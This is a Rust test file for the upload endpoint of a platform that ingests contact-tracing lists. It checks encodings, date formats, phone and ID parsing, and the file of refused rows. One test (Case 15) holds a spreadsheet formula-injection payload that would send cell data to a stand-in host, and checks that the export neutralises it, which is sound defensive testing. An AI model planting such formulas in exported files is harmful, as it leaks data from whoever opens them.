//! Lists as spreadsheets write them, and what became of those that went wrong elsewhere.

use crate::city::{CDC, City, counts, report};
use encoding_rs::GB18030;
use ingest::LoadReport;
use proptest::prelude::*;
use rstest::rstest;
use serde_json::Value;
use stages::Store::Embedded;

const HEADER: &str = "source_id,kind,occurred_at,phone,level,district";

/// A file whatever its type, as somebody uploads it.
async fn upload(city: &City, file: impl Into<Vec<u8>>) -> LoadReport {
    report(city.post(CDC, "/api/v1/records/upload", "application/octet-stream").body(file.into())).await
}

pub async fn problem(city: &City, file: impl Into<Vec<u8>>) -> (u16, Value) {
    let answer = city.post(CDC, "/api/v1/records/upload", "application/octet-stream").body(file.into()).send().await.unwrap();
    let status = answer.status().as_u16();
    (status, serde_json::from_str(&answer.text().await.unwrap()).unwrap())
}

fn fields(load: &LoadReport) -> Vec<(u64, String)> {
    let faults = |row: &ingest::RefusedLine| {
        [row.field.clone()].into_iter().chain(row.others.iter().map(|other| other.field.clone())).collect::<Vec<_>>().join(" ")
    };
    load.refused_rows.iter().map(|row| (row.line, faults(row))).collect()
}

/// The source's ids that were kept, in order.
async fn kept(city: &City) -> Vec<String> {
    sqlx::query_scalar("select source_id from ingest.record order by source_id").fetch_all(city.platform.database.pool()).await.unwrap()
}

/// The values of an attribute, in the order of the ids.
async fn attribute(city: &City, name: &str) -> Vec<Option<Value>> {
    sqlx::query_scalar("select attributes -> $1 from ingest.record order by source_id")
        .bind(name)
        .fetch_all(city.platform.database.pool())
        .await
        .unwrap()
}

/// Case 1: Excel for Mac ends its rows so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_whose_rows_end_with_cr_is_read() {
    let city = City::new(Embedded).await;
    let file = format!(
        "{HEADER}\rcr-1,case,2026-11-02 08:30,19000000001,high,500103\rcr-2,case,2026-11-02 08:31,19000000002,high,500103\rcr-3,,2026-11-02 08:31,19000000002,high,500103\r"
    );
    let load = upload(&city, file).await;
    assert_eq!((counts(&load), fields(&load)), ((2, 0, 1), vec![(4, "kind".into())]));
    // also one that is longer than what is looked at for its header
    let rows: String = (0..5_000).map(|n| format!("cr-1{n:05},case,2026-11-02 08:30,19000000001,high,500103\r")).collect();
    let long = city.csv(CDC, format!("{HEADER}\r{}", &rows[..90_000])).await;
    assert!(long.accepted > 1_500 && long.refused <= 1, "{long:?}");
    city.end().await;
}

/// Case 2.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_time_that_can_be_read_in_two_ways_is_refused_with_the_form_that_is_wanted() {
    let city = City::new(Embedded).await;
    let times = [
        "26/11/02 08:30",
        "11/2/26 8:30",
        "11/02/2026 08:30",
        "2024-01-02 08:30",
        "2026年11月2日8时30分",
        "2026/11/2 8:30",
        "20261102",
        "2026-11-02T08:30+08:00",
    ];
    let rows: String = times.iter().zip(1..).map(|(time, n)| format!("y-{n},case,{time},19000000001,high,500103\n")).collect();
    let load = upload(&city, format!("{HEADER}\n{rows}")).await;
    assert_eq!((counts(&load), fields(&load)), ((4, 0, 4), (2..6).map(|line| (line, "occurred_at".into())).collect()));
    assert!(load.refused_rows[..3].iter().all(|row| row.reason.contains("请写成 2026-11-02 08:30")), "{load:?}");
    let morning = "select count(*) from ingest.record where occurred_at = '2026-11-02T08:30:00+08:00'";
    assert_eq!(city.count(morning).await, 3);

    let json = r#"{"source_id":"y-9","kind":"case","occurred_at":"0026-11-02T08:30:00+08:00","subject":{"phone":"19000000001"},"level":"high","district":"500103"}"#;
    assert_eq!(fields(&city.ndjson(CDC, json).await), [(1, "occurred_at".to_owned())]);
    city.end().await;
}

/// Case 4.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signs_that_nobody_sees_are_dropped_around_a_phone_number() {
    let mut city = City::new(Embedded).await;
    city.register("+8619000000004", 17).await;
    let phones = [
        "\u{202d}19000000004\u{202c}",
        "\u{200e}19000000004",
        "\u{feff}19000000004",
        "\u{2068}19000000004\u{2069}",
        "１９０００００００００４",
    ];
    let rows: String =
        phones.iter().take(4).zip(1..).map(|(phone, n)| format!("v-{n},case,2026-11-02 08:30,{phone},high,500103\n")).collect();
    assert_eq!(counts(&upload(&city, format!("{HEADER}\n{rows}")).await), (4, 0, 0));
    let json: String = phones[..4].iter().zip(5..).map(|(phone, n)| crate::city::contact(&format!("v-{n}"), phone)).collect();
    assert_eq!(counts(&city.ndjson(CDC, json).await), (4, 0, 0));
    assert_eq!(city.count("select count(*) from ingest.record where resident_no = 17").await, 8);
    city.told.close();
    city.end().await;
}

/// Case 5.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_separator_hint_is_obeyed_and_counted_as_a_line() {
    let city = City::new(Embedded).await;
    let file = "sep=;\nsource_id;kind;occurred_at;phone;level;district\ns-1;case;2026-11-02 08:30;19000000005;high;500103\ns-2;case;;19000000005;high;500103\n";
    let load = upload(&city, file).await;
    assert_eq!((counts(&load), fields(&load)), ((1, 0, 1), vec![(4, "occurred_at".into())]));
    city.end().await;
}

/// Case 6.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_byte_order_mark_any_separator_and_blanks_behind_a_value_need_no_setting() {
    let city = City::new(Embedded).await;
    for (n, separator) in [(1, ";"), (2, "\t"), (3, ",")] {
        let file = format!(
            "{HEADER}\r\nm-{n},case,2026-11-02 08:30,19000000006,high,500103\r\nm-{n}b,case,2026-11-02 08:30,19000000006,high ,500103\r\n"
        );
        assert_eq!(counts(&upload(&city, format!("\u{feff}{}", file.replace(',', separator))).await), (2, 0, 0));
    }
    city.end().await;
}

/// Case 7.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_file_of_refused_rows_keeps_its_separator_and_can_be_sent_again() {
    let city = City::new(Embedded).await;
    let file = "source_id;kind;occurred_at;phone;level;district;site\n\
                r-1;case;2026-11-02 08:30;19000000007;very high;500103;\"a;b \"\"c\"\"\"\n\
                r-2;case;2026-11-02 08:30;19000000007;high;500103;x\n";
    let load = upload(&city, file).await;
    assert_eq!(counts(&load), (1, 0, 1));
    let refused = city.refused(CDC, &load).await;
    assert_eq!(
        refused.lines().next(),
        Some("\u{feff}source_id;kind;occurred_at;phone;level;district;site;refused_line;refused_field;refused_reason")
    );
    assert_eq!(counts(&upload(&city, refused.replace("very high", "high")).await), (1, 0, 0));
    assert_eq!(attribute(&city, "site").await[0], Some("a;b \"c\"".into()));
    city.end().await;
}

/// Case 8.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn blank_rows_and_rows_of_separators_are_none_and_are_counted_as_lines() {
    let city = City::new(Embedded).await;
    let load = upload(
        &city,
        format!("{HEADER}\n\n,,,,,\nb-1,case,2026-11-02 08:30,19000000006,high,500103\nb-2,case,2026-11-02 08:30,1900,high,500103\n"),
    )
    .await;
    assert_eq!((counts(&load), fields(&load)), ((1, 0, 1), vec![(5, "subject.phone".into())]));
    city.end().await;
}

/// Case 10.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_line_break_in_a_cell_of_the_header_loses_no_row() {
    let city = City::new(Embedded).await;
    let rows: String = (1..=500).map(|n| format!("h-{n:04},case,2026-11-02 08:30,19000000009,high,500103,x\n")).collect();
    let load = upload(&city, format!("{HEADER},\"note\n\"\n{rows}")).await;
    assert_eq!(counts(&load), (500, 0, 0));
    assert_eq!(attribute(&city, "note").await[0], Some("x".into()));

    let (status, problem) = problem(&city, format!("{HEADER},\"note\n(free text)\"\n{rows}")).await;
    assert_eq!((status, &problem["code"]), (400, &"csv_header".into()));
    let detail = problem["detail"].as_str().unwrap();
    assert!(detail.contains("第 1 行第 7 列") && detail.contains("note (free text)"), "{detail}");
    assert_eq!(problem["errors"][0]["field"], "column 7");
    city.end().await;
}

/// Case 11.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_attribute_is_the_text_that_stands_in_its_column_in_every_row() {
    let city = City::new(Embedded).await;
    let rows: String = ["12", "12A", "012", "1.10", "true", "32E0134"]
        .iter()
        .zip(1..)
        .map(|(seat, n)| format!("t-{n},case,2026-11-02 08:30,19000000011,high,500103,{seat}\n"))
        .collect();
    assert_eq!(counts(&upload(&city, format!("{HEADER},seat\n{rows}")).await), (6, 0, 0));
    let seats: Vec<Value> = attribute(&city, "seat").await.into_iter().flatten().collect();
    assert_eq!(seats, ["12", "12A", "012", "1.10", "true", "32E0134"].map(Value::from));
    city.end().await;
}

/// Case 12.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_a_spreadsheet_writes_for_a_value_that_it_does_not_have_is_no_value() {
    let city = City::new(Embedded).await;
    let cells = ["#N/A", "#REF!", "#VALUE!", "#DIV/0!", "NULL", "-", "渝州宾馆"];
    let rows: String =
        cells.iter().zip(1..).map(|(site, n)| format!("e-{n},case,2026-11-02 08:30,19000000012,high,500103,{site}\n")).collect();
    let load = upload(&city, format!("{HEADER},isolation_site\n{rows}")).await;
    assert_eq!((counts(&load), fields(&load)), ((2, 0, 5), (2..7).map(|line| (line, "attributes.isolation_site".into())).collect()));
    for (row, word) in load.refused_rows.iter().zip(cells) {
        assert!(row.reason.contains(word) && row.reason_en.contains(word), "{row:?}");
    }
    assert_eq!(attribute(&city, "isolation_site").await, [None, Some("渝州宾馆".into())]);
    city.end().await;
}

/// Case 15.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_cell_of_the_refused_rows_is_a_formula_and_each_comes_back_as_it_was() {
    let city = City::new(Embedded).await;
    let file = format!(
        "{HEADER},note\n\"=HYPERLINK(\"\"http://192.0.2.1/?\"\"&A1,\"\"x\"\")\",case,2026-11-02 08:30,+8619000000015,very high,500103,@SUM(A1)\n"
    );
    let load = upload(&city, file).await;
    let refused = city.refused(CDC, &load).await;
    assert!(refused.contains("\n\"'=HYPERLINK(") && refused.contains(",'+8619000000015,") && refused.contains(",'@SUM(A1),"), "{refused}");
    assert_eq!(counts(&upload(&city, refused.replace("very high", "high")).await), (1, 0, 0));
    assert_eq!(kept(&city).await, [r#"=HYPERLINK("http://192.0.2.1/?"&A1,"x")"#]);
    assert_eq!(attribute(&city, "note").await, [Some("@SUM(A1)".into())]);
    city.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn all_that_is_wrong_with_a_row_is_said_at_once_in_the_report_and_in_the_file() {
    let city = City::new(Embedded).await;
    let load = upload(&city, "编号,类别,发生时间,手机号,风险等级,区县\nw-1,传言,26/11/02,1.9E+10,很高,朝阳区\n").await;
    assert_eq!(fields(&load), [(2, "kind occurred_at level subject.phone district".to_owned())]);
    let shown: LoadReport =
        serde_json::from_str(&city.get(CDC, &format!("/api/v1/loads/{}", load.load_id)).await.text().await.unwrap()).unwrap();
    assert_eq!(shown.refused_rows, load.refused_rows);
    let refused = city.refused(CDC, &load).await;
    for word in
        ["编号,类别", "发生时间：年份只有两位", "不是可用的取值", "年份只有两位", "科学计数法", "区划名称", "rounded by a spreadsheet"]
    {
        assert!(refused.contains(word), "{word} is missing: {refused}");
    }
    let mended = refused
        .replace("传言", "密接")
        .replace("26/11/02", "2026年11月2日")
        .replace("1.9E+10", "19000000001")
        .replace("很高", "高")
        .replace("朝阳区", "渝中");
    assert_eq!(counts(&upload(&city, mended).await), (1, 0, 0));
    city.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_chinese_list_with_titles_and_totals_is_read() {
    let city = City::new(Embedded).await;
    let file = "密切接触者名单,,,,,,,\n填报单位：市疾控中心,,,,2026年11月2日,,,\n序号,姓名,*编号,人员类别,接触时间,手机号码（本人）,风险等级,区县\n\
                1,张三,c-1,密接,2026年11月2日8时30分,19000000001,高,渝中区\n2,李四,c-2,次密接,2026/11/2 9:00,19000000002,中风险,重庆市渝中区\n\
                合计,2,,,,,,\n填表人：王五\n";
    let load = upload(&city, file).await;
    // the source may deliver no secondary contacts
    assert_eq!((counts(&load), fields(&load)), ((1, 0, 1), vec![(5, "kind".into())]));
    assert_eq!(
        city.count("select count(*) from ingest.record where kind = 'close_contact' and level = 'high' and district = 500103").await,
        1
    );
    assert_eq!(city.count("select count(*) from ingest.record where attributes::text like '%张三%'").await, 0);
    city.end().await;
}

/// A list of people from everywhere, as a district writes it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn people_are_found_by_every_kind_of_document_and_by_phones_of_other_places() {
    let mut city = City::new(Embedded).await;
    let known = [
        ("11010519491231002X", 1),
        ("820000198506150022", 2),
        ("hong_kong_macao_permit:H12345678", 3),
        ("taiwan_permit:01234567", 4),
        ("permanent_resident_card:KAZ110090123105", 5),
        ("911398199012310021", 6),
        ("passport:GBR:123456789", 7),
    ];
    for (hashed, resident_no) in known {
        city.identify(hashed, resident_no).await;
    }
    let file = "编号,人员类别,接触时间,证件类型,证件号码,国籍,风险等级,区县\n\
                p-1,密接,2026-11-02 08:30,居民身份证,１１０１０５１９４９１２３１００２Ｘ,中国,高,渝中区\n\
                p-2,密接,2026-11-02 08:30,,820000 1985 0615 0022,,高,渝中区\n\
                p-3,密接,2026-11-02 08:30,回乡证,H1234567802,中国香港,高,渝中区\n\
                p-4,密接,2026-11-02 08:30,台胞证,0123456701(B),,高,渝中区\n\
                p-5,密接,2026-11-02 08:30,永居证,kaz110090123105,哈萨克斯坦,高,渝中区\n\
                p-6,密接,2026-11-02 08:30,外国人永久居留身份证,911398199012310021,,高,渝中区\n\
                p-7,密接,2026-11-02 08:30,护照,123456789,英国,高,渝中区\n\
                p-8,密接,2026-11-02 08:30,护照,123456789,,高,渝中区\n\
                p-9,密接,2026-11-02 08:30,,12345678,,高,渝中区\n\
                p-10,密接,2026-11-02 08:30,身份证,110105491231002,,高,渝中区\n\
                p-11,密接,2026-11-02 08:30,身份证,110105194912310021,,高,渝中区\n";
    let load = upload(&city, file).await;
    let refused =
        [(9, "subject.number_country"), (10, "subject.identity_kind"), (11, "subject.identity_number"), (12, "subject.identity_number")];
    assert_eq!(fields(&load), refused.map(|(line, field)| (line, field.to_owned())));
    assert_eq!(counts(&load), (7, 0, 4));
    let found: Vec<(String, Option<i32>)> = sqlx::query_as("select source_id, resident_no from ingest.record order by source_id")
        .fetch_all(city.platform.database.pool())
        .await
        .unwrap();
    assert_eq!(found, (1..=7).map(|number| (format!("p-{number}"), Some(number))).collect::<Vec<_>>());

    city.register("+85251234567", 8).await;
    let phones = "编号,人员类别,接触时间,手机号码,国家/地区,风险等级,区县\n\
                  q-1,密接,2026-11-02 08:30,+852 5123 4567,,高,渝中区\n\
                  q-2,密接,2026-11-02 08:30,5123-4567,香港,高,渝中区\n\
                  q-3,密接,2026-11-02 08:30,00852５１２３４５６７,,高,渝中区\n\
                  q-4,密接,2026-11-02 08:30,51234567,,高,渝中区\n\
                  q-5,密接,2026-11-02 08:30,+852 2123 4567,,高,渝中区\n";
    let load = upload(&city, phones).await;
    assert_eq!(fields(&load), [(5, "subject.phone".to_owned()), (6, "subject.phone".to_owned())]);
    assert!(load.refused_rows[0].reason.contains("+852") && load.refused_rows[1].reason.contains("中国香港"), "each with its own words");
    assert_eq!(city.count("select count(*) from ingest.record where resident_no = 8").await, 3);
    city.told.close();
    city.end().await;
}

fn utf16(text: &str, big: bool, mark: bool) -> Vec<u8> {
    let units = mark.then_some(0xFEFF).into_iter().chain(text.encode_utf16());
    units.flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
}

#[rstest]
#[case::utf8(|text: &str| text.as_bytes().to_vec())]
#[case::gb18030(|text: &str| GB18030.encode(text).0.into_owned())]
#[case::utf16_little(|text: &str| utf16(text, false, true))]
#[case::utf16_big_without_a_mark(|text: &str| utf16(text, true, false))]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_list_is_read_in_every_encoding(#[case] write: fn(&str) -> Vec<u8>) {
    let city = City::new(Embedded).await;
    // one whose header tells, and one whose first Chinese sign comes late and could be another
    let header = "编号,类别,发生时间,手机号,风险等级,区县,隔离地点";
    assert_eq!(
        counts(&upload(&city, write(&format!("{header}\n1,病例,2026-11-02 08:30,19000000001,高,渝中区,渝州宾馆𠮷\n"))).await),
        (1, 0, 0)
    );
    let rows: String =
        (100..300).map(|n| format!("{n},case,2026-11-02 08:30,19000000001,high,500103,{}\n", if n == 250 { "路" } else { "" })).collect();
    assert_eq!(
        counts(
            &upload(&city, write(&format!("{HEADER},isolation_site\n{rows}300,case,2026-11-02 08:30,19000000001,high,500103,渝州宾馆\n")))
                .await
        ),
        (201, 0, 0)
    );
    let sites: Vec<Value> = attribute(&city, "isolation_site").await.into_iter().flatten().collect();
    assert_eq!(sites, ["渝州宾馆𠮷", "路", "渝州宾馆"].map(Value::from));
    city.end().await;
}

#[rstest]
#[case::picture(b"\xFF\xD8\xFF\xE0\x00\x10JFIF".to_vec(), "图片")]
#[case::pdf(b"%PDF-1.7\n%\xE2\xE3".to_vec(), "PDF")]
#[case::web_page(b"<html><table><tr><td>source_id</td></tr></table></html>".to_vec(), "网页")]
#[case::program(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xFF\xFF".to_vec(), "二进制")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_that_is_no_list_is_refused_with_what_it_is(#[case] file: Vec<u8>, #[case] word: &str) {
    let city = City::new(Embedded).await;
    let (status, problem) = problem(&city, file).await;
    assert_eq!((status, &problem["code"]), (400, &"file_not_a_list".into()));
    assert!(problem["detail"].as_str().unwrap().contains(word) && problem["detail_en"].as_str().unwrap().is_ascii(), "{problem}");
    assert_eq!(city.count("select count(*) from ingest.load").await, 0);
    city.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_and_lines_of_it_are_read_by_their_content_too() {
    let city = City::new(Embedded).await;
    let record = crate::city::contact("j-1", "13800005678");
    assert_eq!(counts(&upload(&city, format!("{record}{record}")).await), (1, 1, 0));
    assert_eq!(
        counts(&upload(&city, format!("\u{feff} [{record},{}]", record.replace("\"j-1\"", "12345678901234567890123"))).await),
        (1, 1, 0)
    );
    assert_eq!(kept(&city).await, ["12345678901234567890123", "j-1"]);
    city.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sixteen_thousand_columns_and_long_cells_are_bounded() {
    let city = City::taking(Embedded, 1 << 20).await;
    let columns: String = (0..16_378).map(|n| format!(",c{n}")).collect();
    let load = upload(&city, format!("{HEADER}{columns}\nl-1,case,2026-11-02 08:30,19000000001,high,500103,x\n")).await;
    assert_eq!(counts(&load), (1, 0, 0));
    let load = upload(&city, format!("{HEADER},note\nl-2,case,2026-11-02 08:30,19000000001,high,500103,{}\n", "长".repeat(32_767))).await;
    assert_eq!(fields(&load), [(2, "attributes.note".to_owned())]);
    city.end().await;
}

#[derive(Clone, Copy, Debug)]
enum Writing {
    Utf8,
    Utf8Marked,
    Gb18030,
    Utf16Little,
    Utf16Big,
}

/// A table as CSV in this writing.
fn csv(header: &[&str], rows: &[Vec<String>], separator: char, end: &str, writing: Writing) -> Vec<u8> {
    let cell = |text: &str| {
        if text.contains([separator, '"', '\n', '\r']) { format!("\"{}\"", text.replace('"', "\"\"")) } else { text.to_owned() }
    };
    let line = |cells: Vec<String>| cells.join(&separator.to_string()) + end;
    let mut text = line(header.iter().map(|name| (*name).to_owned()).collect());
    text.extend(rows.iter().map(|row| line(row.iter().map(|text| cell(text)).collect())));
    match writing {
        Writing::Utf8 => text.into_bytes(),
        Writing::Utf8Marked => format!("\u{feff}{text}").into_bytes(),
        Writing::Gb18030 => GB18030.encode(&text).0.into_owned(),
        Writing::Utf16Little => utf16(&text, false, true),
        Writing::Utf16Big => utf16(&text, true, true),
    }
}

#[test]
fn any_table_is_the_same_records_in_every_writing() {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
    let city = runtime.block_on(City::new(Embedded));
    let cell = "[a-z渝州路通𠮷0-9][a-z渝州路通𠮷,;\t\"\n 0-9]{0,12}[a-z渝州路通𠮷0-9]";
    let writing = prop_oneof![
        Just(Writing::Utf8),
        Just(Writing::Utf8Marked),
        Just(Writing::Gb18030),
        Just(Writing::Utf16Little),
        Just(Writing::Utf16Big)
    ];
    let table = (
        prop::collection::vec(cell, 1..8),
        prop_oneof![Just(','), Just(';'), Just('\t')],
        prop_oneof![Just("\n"), Just("\r\n"), Just("\r")],
        writing,
        any::<bool>(),
    );
    let number = std::cell::Cell::new(0_u64);
    let config = ProptestConfig { cases: 60, failure_persistence: None, ..ProptestConfig::default() };
    proptest!(config, |((notes, separator, end, writing, chinese) in table)| {
        number.set(number.get() + 1);
        let id = |row: usize| format!("p{:06}-{row}", number.get());
        let header = if chinese {
            ["编号", "类别", "发生时间", "手机号", "风险等级", "区县", "备注"]
        } else {
            ["source_id", "kind", "occurred_at", "phone", "level", "district", "note"]
        };
        let rows: Vec<Vec<String>> = notes.iter().enumerate().map(|(row, note)| {
            [&id(row), "case", "2026-11-02 08:30", "19000000001", "high", "500103", note].map(str::to_owned).into()
        }).collect();
        let bytes = csv(&header, &rows, separator, end, writing);
        // a few signs that could be both, and nothing that tells: refused, not guessed
        let unsure = matches!(writing, Writing::Gb18030) && std::str::from_utf8(&bytes).is_ok();
        let (read, refused): (Vec<String>, Vec<String>) = notes.into_iter().partition(|note| !unsure || note.is_ascii());
        let (load, stored) = runtime.block_on(async {
            let load = upload(&city, bytes).await;
            let stored: Vec<String> = sqlx::query_scalar("select attributes ->> 'note' from ingest.record where source_id like $1 order by source_id")
                .bind(format!("p{:06}-%", number.get())).fetch_all(city.platform.database.pool()).await.unwrap();
            (load, stored)
        });
        prop_assert_eq!(counts(&load), (read.len() as u64, 0, refused.len() as u64), "{:?}", load.refused_rows);
        prop_assert_eq!(stored, read);
    });
    runtime.block_on(city.end());
}

/// A rule asks for `attributes.result == "positive"`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_result_in_chinese_is_the_word_that_rules_ask_for() {
    let city = City::new(Embedded).await;
    let rows = [("r-1", "阳性"), ("r-2", "阴 性"), ("r-3", "POSITIVE"), ("r-4", "弱阳性")];
    let rows = rows.map(|(id, result)| format!("{id},病例,2026-11-02 08:30,19000000001,高,渝中区,{result}\n")).concat();
    let report = city.csv(CDC, format!("编号,类别,发生时间,手机号,等级,区县,检测结果\n{rows}")).await;
    assert_eq!(counts(&report), (4, 0, 0));
    let results: Vec<String> = sqlx::query_scalar("select attributes ->> 'result' from ingest.record order by source_id")
        .fetch_all(city.platform.database.pool())
        .await
        .unwrap();
    assert_eq!(results, ["positive", "negative", "positive", "弱阳性"]);
    city.end().await;
}
